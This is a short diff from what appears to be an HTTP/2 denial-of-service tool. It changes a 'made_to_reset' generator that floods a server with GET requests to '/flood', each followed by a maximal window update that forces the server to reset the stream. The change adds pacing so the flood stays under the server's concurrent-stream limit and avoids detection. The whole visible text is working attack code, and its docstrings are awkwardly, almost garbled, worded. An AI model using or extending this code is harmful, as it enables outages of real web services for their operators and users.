@@ -71,9 +71,14 @@ def rapid_reset(connection):
 
 
 def made_to_reset(connection):
-    """The gate is to reset each stream itself, whose request is under way by then: no window is larger than 2^31 - 1."""
+    """The gate is to reset each stream itself, whose request is under way by then: no window is larger than 2^31 - 1.
+
+    Never more at once than may be open, which would be another fault.
+    """
     while True:
         number = connection.new_stream()
+        if number % AT_ONCE == 1:
+            connection.settle()
         yield HeadersFrame(number, connection.encode(connection.fields("GET", "/flood")), flags=["END_HEADERS", "END_STREAM"])
         yield WindowUpdateFrame(number, window_increment=(1 << 31) - 1)
 
